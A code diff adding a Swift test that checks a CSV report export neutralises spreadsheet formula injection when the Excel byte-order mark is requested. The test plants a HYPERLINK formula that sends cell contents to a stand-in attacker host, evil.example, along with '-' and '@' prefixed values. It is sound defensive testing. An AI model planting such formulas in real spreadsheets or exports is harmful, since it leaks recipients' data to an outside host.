@@ -191,6 +191,23 @@ struct ReportTests {
         }
     }
 
+    @Test("an export for Excel (bom=true) defuses text a spreadsheet would run as a formula; without the mark it is as stored")
+    func csvFormulaInjection() async throws {
+        try await TestApp.run { app in
+            let dashboard = try await app.keySecret(.dashboard)
+            let customer = try await app.customer()
+            let ticket = try await Self.arrival(app, customer, at: "'2026-11-03 08:00+09'")
+            let formula = #"=HYPERLINK("https://evil.example/?"&A2,"詳細")"#
+            try await app.execute("UPDATE tickets SET tags = ARRAY[\(formula), '-sale', '@mention', 'ok'] WHERE id = \(ticket)")
+            let path = "/v1/reports/categories?from=2026-11-01&to=2026-11-10&format=csv"
+            let plain = try await app.request(.get, path, key: dashboard).text
+            let excel = String(decoding: try await app.request(.get, path + "&bom=true", key: dashboard).bodyBuffer.readableBytesView.dropFirst(3), as: UTF8.self)
+            #expect(plain.contains(CSV.quoted(formula)) && plain.contains(",-sale,") && plain.contains(",@mention,"), "\(plain)")
+            #expect(excel.contains(CSV.quoted("'" + formula)) && excel.contains(",'-sale,") && excel.contains(",'@mention,"), "\(excel)")
+            #expect(!excel.contains(",=") && !excel.contains(",\"=") && excel.contains(",ok,"), "\(excel)")
+        }
+    }
+
     @Test("backlog: open tickets at each day's end, by status and age, from the status history")
     func backlog() async throws {
         try await TestApp.run { app in
